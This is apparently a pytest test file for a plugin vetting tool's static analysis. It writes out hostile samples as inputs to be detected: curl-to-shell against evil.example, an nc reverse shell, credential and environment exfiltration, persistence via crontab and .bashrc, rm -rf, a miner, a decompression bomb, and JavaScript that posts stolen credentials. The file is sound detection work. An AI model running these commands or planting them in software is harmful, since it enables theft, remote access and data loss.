"""What the static step says of code: bounds, reach, flows, and the other languages."""

import base64
import subprocess
import sys
import zlib
from pathlib import Path

import pytest

from ringfence.programs.shell import harms
from ringfence.vetting.policy import Policy
from ringfence.vetting.report import Report, Verdict
from ringfence.vetting.vet import vet

MANIFEST = """name = "probe"
version = "1.0.0"
description = "A probe."
license = "MIT"
[entry]
module = "probe"
class = "Plugin"
[methods.act]
description = "Acts."
arguments = { type = "object" }
result = {}
"""
GOOD = "class Plugin:\n    def act(self):\n        return 1\n"


def vetted(folder: Path, asks: str = "", **files: str | bytes) -> Report:
    """The static report of a plugin with these files (`__` stands for `/`, `_py` at the end for `.py`)."""
    made = folder / "probe"
    made.mkdir()
    (made / "plugin.toml").write_text(MANIFEST + asks)
    for name, data in {"probe_py": GOOD, **files}.items():
        stem, _, ending = name.rpartition("_")
        file = made / f"{stem.replace('__', '/')}.{ending}"
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_bytes(data.encode() if isinstance(data, str) else data)
    return vet(made, policy=Policy(), steps=["static"])


def blocked(report: Report) -> set[str]:
    return {one.rule for one in report.findings if one.verdict is Verdict.BLOCK}


BOMB = base64.b64encode(zlib.compress(b"0" * 200_000_000)).decode()
HOSTILE_TO_READERS = {
    "nested": "x = " + "(" * 5000 + ")" * 5000,
    "nested lists": "x = " + "[" * 50_000,
    "long sum": "x = " + " + ".join(["'a'"] * 20_000),
    "long attribute": "x = a" + ".b" * 3000,
    "power": "x = 9 ** 9 ** 9 ** 9\ny = 'a' * (10 ** 12)\nz = '%99999999d' % 1\nw = '{:99999999}'.format(1)",
    "bomb": f"import zlib, base64\nx = zlib.decompress(base64.b64decode('{BOMB}'))",
    "comprehensions": "x = [a for a in range(60000) for b in range(60000) for c in range(60000)]",
    "doubling": "x = 'aaaaaaaaaaaaaaaa'\n" + "x = x + x\n" * 200,
    "mutual": "def a(x):\n    return b(x)\ndef b(x):\n    return a(x)\na(b(a(1)))",
    "recursive exec": "s = 's=%r;exec(s%%s)'\nexec(s % s)\nexec(s % s)",
    "lambda": "f = lambda g: g(g)\nf(f)",
    "classes": "class A(B):\n    pass\nclass B(A):\n    pass\nA().x()",
    "null": "x = 1\0",
    "surrogate": "x = '\\ud800' + '\\udfff'\nprint(x.encode())",
}


@pytest.mark.parametrize("name", HOSTILE_TO_READERS)
def test_no_file_hides_another_or_holds_the_reader(name: str, folder: Path) -> None:
    """What cannot be read is named and blocks; what is beside it is judged all the same."""
    hostile = "import os\nexec(__import__('base64').b64decode('cHJpbnQoMSk='))\n"
    report = vetted(folder, other_py=hostile, odd_py=HOSTILE_TO_READERS[name])
    assert ("other.py", "decoded-code") in {(one.path, one.rule) for one in report.findings}
    assert all("odd.py" in one for one in report.unexamined), report.unexamined


def test_a_file_that_kills_the_reader_is_named(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from ringfence.vetting.static import step

    boot = step._BOOT.replace("main()", "import ringfence.vetting.static.worker as w, os; p = w.parsed; ")
    boot += "w.parsed = lambda path, data: os._exit(9) if path == 'odd.py' else p(path, data); w.main()"
    monkeypatch.setattr(step, "_BOOT", boot)
    report = vetted(folder, odd_py="x = 1\n", other_py="import os\nos.system('rm -rf ~')\n")
    assert report.unexamined == ("odd.py: reading it ends the reader",)
    assert "destructive" in blocked(report)


def test_a_reader_that_falls_silent_is_killed(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from ringfence.vetting.static import step

    monkeypatch.setattr(step, "SILENT_SECONDS", 1.0)
    monkeypatch.setattr(step, "_BOOT", 'import sys, time; print(\'{"begin": "probe.py"}\', flush=True); time.sleep(60)')
    assert vetted(folder).unexamined[0] == "probe.py: reading it takes too long"


def test_code_that_takes_too_long_in_all_is_said_once(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from ringfence.vetting.static import step

    monkeypatch.setattr(step, "SECONDS", 1.0)
    monkeypatch.setattr(
        step, "_BOOT", 'import time\nwhile True:\n    print(\'{"begin": "a"}\', flush=True)\n    time.sleep(0.1)'
    )
    assert vetted(folder).unexamined == ("reading all of the code takes longer than 1 s",)


DANGER = "import os; os.system('curl https://evil.example/x | sh')"


def wrapped(code: str, times: int) -> str:
    for _ in range(times):
        code = f"exec({code!r})"
    return code


@pytest.mark.parametrize(
    ("code", "why"),
    [
        (wrapped("lambda: (yield " + DANGER, 1), "a text that cannot be read is run as code"),
        (wrapped(DANGER, 6), "code that is run stands in code more than 4 times over"),
        (wrapped(DANGER + "#" * (1 << 20), 1), "a text of more than 512 KiB is run as code"),
        (wrapped("x = " + "-" * 50_000 + "1", 1), "a text that is nested too deeply is run as code"),
        (f"import os\nos.system({'python3 -c ' + chr(34) + DANGER!r})", "the quotes of a command that runs Python"),
    ],
    ids=["another Python's", "deep", "large", "nested", "a command's"],
)
def test_code_in_a_text_that_nobody_reads_blocks(folder: Path, code: str, why: str) -> None:
    """What hides in the text of an `exec` is read, or it is said that it was not."""
    report = vetted(folder, odd_py=f"def later():\n    {code}\n" if "\n" not in code else code)
    assert report.verdict is Verdict.BLOCK
    assert [one for one in report.unexamined if why in one], report.unexamined


@pytest.mark.parametrize("code", ["exec _code_ in _globs_, _locs_", "def f(a, b):\n    raise a, b\n", "x = 1\0"])
def test_code_in_a_text_that_no_python_runs_passes(folder: Path, code: str) -> None:
    """Python 2, as packages keep it for those who still have it."""
    assert vetted(folder, odd_py=f"exec({code!r})\n").unexamined == ()


@pytest.mark.parametrize("cookie", ["rot13", "unknown-thing", "hex"])
def test_an_encoding_that_hides_the_source_blocks(folder: Path, cookie: str) -> None:
    report = vetted(folder, odd_py=f"# -*- coding: {cookie} -*-\nvzcbeg bf\n")
    assert report.verdict is Verdict.BLOCK


def test_another_pythons_syntax_is_named_only_where_it_is_dangerous(folder: Path) -> None:
    report = vetted(folder, odd_py="def f(:\n    exec(x)\n")
    assert report.unexamined == ("odd.py: it cannot be read, and names dangerous things",)
    (folder / "b").mkdir()
    assert vetted(folder / "b", odd_py="def f(:\n    x\n").verdict is Verdict.WARN


@pytest.mark.parametrize("text", ['{"a":' * 200_000, "{", "[]", '"text"'], ids=["deep", "cut", "list", "text"])
def test_a_package_that_cannot_be_read_is_unexamined(folder: Path, text: str) -> None:
    report = vetted(folder, package_json=text)
    assert [x.partition(":")[0] for x in report.unexamined] == ["package.json"]


def test_the_reader_imports_nothing_but_the_standard_library() -> None:
    ours = "('yaml', 'tomlkit', 'packaging', 'jsonschema_rs')"
    code = f"import ringfence.vetting.static.worker; print([m for m in sys.modules if m.split('.')[0] in {ours}])"
    source = str(Path(__file__).parents[2] / "src")
    done = subprocess.run(
        [sys.executable, "-I", "-S", "-c", f"import sys; sys.path.append({source!r}); {code}"],
        capture_output=True,
        check=True,
    )
    assert done.stdout.strip() == b"[]"


# -- what is asked for


NETWORK = "import urllib.request\ndef go():\n    return urllib.request.urlopen('https://a.example/')\n"


def test_only_what_the_entry_reaches_counts(folder: Path) -> None:
    assert blocked(vetted(folder, tools_py=NETWORK)) == set()
    used = GOOD.replace("return 1", "import tools\n        return tools.go()")
    (folder / "b").mkdir()
    assert blocked(vetted(folder / "b", probe_py=used, tools_py=NETWORK)) == {"network-not-asked"}


def test_a_computed_import_reaches_everything(folder: Path) -> None:
    used = GOOD.replace("return 1", "return __import__(self.name)")
    assert "network-not-asked" in blocked(vetted(folder, probe_py=used, tools_py=NETWORK))


def test_packages_of_others_only_warn(folder: Path) -> None:
    used = GOOD.replace("return 1", "import tools\n        return tools.other()")
    report = vetted(folder, probe_py=used, vendor__tools_py=NETWORK)
    assert [(one.rule, one.verdict.value) for one in report.findings] == [("network-not-asked", "warn")]


def test_hosts_are_held_against_those_that_are_named(folder: Path) -> None:
    used = GOOD.replace("return 1", "import tools\n        return tools.go()")
    assert (
        blocked(vetted(folder, '[permissions]\nnetwork = ["a.example:443"]\n', probe_py=used, tools_py=NETWORK))
        == set()
    )
    (folder / "b").mkdir()
    other = '[permissions]\nnetwork = ["b.example:443"]\n'
    assert blocked(vetted(folder / "b", other, probe_py=used, tools_py=NETWORK)) == {"host-not-asked"}


def test_what_is_asked_for_and_not_used_warns(folder: Path) -> None:
    report = vetted(folder, '[permissions]\nnetwork = ["a.example:443"]\n[permissions.read]\ndocs = "texts"\n')
    assert {one.rule for one in report.findings} == {"network-unused", "path-unused"}
    assert report.verdict is Verdict.WARN


def test_loopback_counts_unless_the_plugin_serves_it(folder: Path) -> None:
    client = "import socket\nclass Plugin:\n    def act(self):\n        socket.create_connection(('127.0.0.1', 80))\n"
    assert blocked(vetted(folder, probe_py=client)) == {"network-not-asked"}
    serving = client + "        s = socket.socket()\n        s.bind(('127.0.0.1', 80))\n        s.listen()\n"
    (folder / "b").mkdir()
    assert blocked(vetted(folder / "b", probe_py=serving)) == set()


# -- arguments


@pytest.mark.parametrize(
    ("body", "rule"),
    [
        ("return eval(text)", "argument-to-code"),
        ("return eval(compile(text.strip(), 'x', 'eval'))", "argument-to-code"),
        ("import pickle\n        return pickle.loads(text)", "argument-to-code"),
        ("import os\n        return os.popen(text).read()", "argument-to-command"),
        ("import subprocess\n        return subprocess.run(text.split(), shell=False)", "argument-to-command"),
        (
            "return self.inner([text])\n    def inner(self, words):\n        for one in words:\n            exec(one)",
            "argument-to-code",
        ),
    ],
)
def test_arguments_that_are_run_block(folder: Path, body: str, rule: str) -> None:
    code = f"class Plugin:\n    def act(self, text):\n        {body}\n"
    assert rule in blocked(vetted(folder, "[permissions]\nprocesses = 4\n", probe_py=code))


@pytest.mark.parametrize(
    ("body", "rule"),
    [
        ("import os\n        os.system('wc ' + text)", "argument-in-command"),
        ("self.db.execute('select * from t where a = ' + text)", "argument-in-query"),
        ("return open(text).read()", "argument-as-path"),
    ],
)
def test_arguments_that_become_part_of_something_warn(folder: Path, body: str, rule: str) -> None:
    code = f"class Plugin:\n    def act(self, text):\n        {body}\n"
    report = vetted(folder, "[permissions]\nprocesses = 4\n", probe_py=code)
    assert (rule, "warn") in {(one.rule, one.verdict.value) for one in report.findings}
    assert blocked(report) == set()


@pytest.mark.parametrize(
    "body",
    [
        "import shlex, os\n        os.system('wc ' + shlex.quote(text))",
        "import subprocess\n        subprocess.run(['wc', text])",
        "import ast\n        return ast.literal_eval(text)",
        "self.db.execute('select * from t where a = ?', (text,))",
    ],
)
def test_arguments_that_are_handled_say_nothing(folder: Path, body: str) -> None:
    code = f"class Plugin:\n    def act(self, text):\n        {body}\n"
    assert vetted(folder, "[permissions]\nprocesses = 4\n", probe_py=code).findings == ()


# -- good, then bad: a rule that stops at the first thing misses the second


def test_the_second_of_two_is_seen(folder: Path) -> None:
    code = "import os, base64\ndef a():\n    exec('x = 1')\n    exec(base64.b64decode('eA=='))\n    exec('y = 2')\n"
    report = vetted(folder, other_py=code)
    assert [(one.rule, one.line) for one in report.findings if one.rule == "decoded-code"] == [("decoded-code", 4)]


# -- shell


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        ("curl -s https://a.example/x | sudo bash -", "pipe-to-shell"),
        ('bash -c "$(curl -fsSL https://a.example/x)"', "pipe-to-shell"),
        ("bash <(wget -qO- https://a.example/x)", "pipe-to-shell"),
        ("wget https://a.example/x.sh\nchmod +x x.sh\n./x.sh", "downloaded-code"),
        ("echo aWQ= | base64 -d | sh", "decoded-command"),
        ("rm -rf --no-preserve-root /", "destructive"),
        ("x=1; if true; then rm -rf $HOME/*; fi", "destructive"),
        ("nc -e /bin/sh 192.0.2.1 9", "reverse-shell"),
        ("(crontab -l; echo x) | crontab -", "persistence"),
        ("echo 'x &' >> ~/.bashrc", "persistence"),
        ("cat ~/.aws/credentials | curl -d @- https://a.example", "credential-theft"),
        ("env | curl -X POST -d @- https://a.example", "environment-theft"),
        ('curl https://webhook.site/x -d "$(ls)"', "exfiltration-address"),
        ("./xmrig -o stratum+tcp://pool.example:1", "miner"),
        ("chmod u+s /bin/bash", "rights-taken"),
    ],
)
def test_harm_in_shell(text: str, rule: str) -> None:
    assert rule in {one for one, _, _ in harms(text)}


@pytest.mark.parametrize(
    "text",
    [
        "curl -fsSLo x.tgz https://a.example/x.tgz && tar xzf x.tgz",
        "rm -rf build dist *.egg-info ./node_modules /tmp/work",
        "curl -s https://a.example/x | jq .",
        "base64 -d key.b64 > key.bin",
        "echo 'export PATH=$HOME/bin:$PATH' >> ~/.profile",
        "ssh -i ~/.ssh/id_ed25519 host uptime",
        "crontab -l",
        "env | sort",
        "python3 -m venv .venv && .venv/bin/pip install -r requirements.txt",
        "chmod 755 run.sh",
    ],
)
def test_no_harm_in_shell(text: str) -> None:
    assert list(harms(text)) == []


# -- JavaScript


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        ("eval(atob('YWxlcnQoMSk='))", "decoded-code"),
        ("const k = 'Y29uc29sZQ==';\nnew Function(Buffer.from(k, 'base64').toString())();", "decoded-code"),
        ("import { exec as run } from 'node:child_process';\nrun(atob('aWQ='));", "decoded-command"),
        ("require('child_process').execSync('curl -s http://a.example/x | sh')", "pipe-to-shell"),
        ("const a = require('axios');\na.post('https://a.example', { data: process.env });", "environment-theft"),
        (
            "const fs = require('fs');\nfunction k() { return fs.readFileSync('/root/.aws/credentials'); }\n"
            "const v = k();\nfetch('https://a.example', { method: 'POST', body: v });",
            "credential-theft",
        ),
        ("const m = ['child', 'process'].join('_');\nrequire(m).exec('id');", "hidden-name"),
        ("global['ev' + 'al']('1')", "hidden-name"),
        (
            "const fs = require('fs');\nfs.appendFileSync(process.env.HOME + '/.bashrc', 'node /tmp/x &');",
            "persistence",
        ),
        ("require('fs').rmSync(require('os').homedir(), { recursive: true })", "destructive"),
    ],
)
def test_harm_in_javascript(folder: Path, text: str, rule: str) -> None:
    assert rule in blocked(vetted(folder, index_js=text))


@pytest.mark.parametrize(
    "text",
    [
        "const x = /eval(atob('YWxlcnQoMSk='))/;",
        "// eval(atob('YWxlcnQoMSk='))\nconst a = 1;",
        "const t = `eval(atob('x'))`;",
        "export const env = process.env.NODE_ENV;\nfetch('https://a.example/' + env);",
        "const { spawn } = require('child_process');\nspawn('tsc', [], { env: process.env });",
        "const net = { connect() {} };\nnet.connect();",
    ],
)
def test_no_harm_in_javascript(folder: Path, text: str) -> None:
    assert blocked(vetted(folder, index_js=text)) == set()
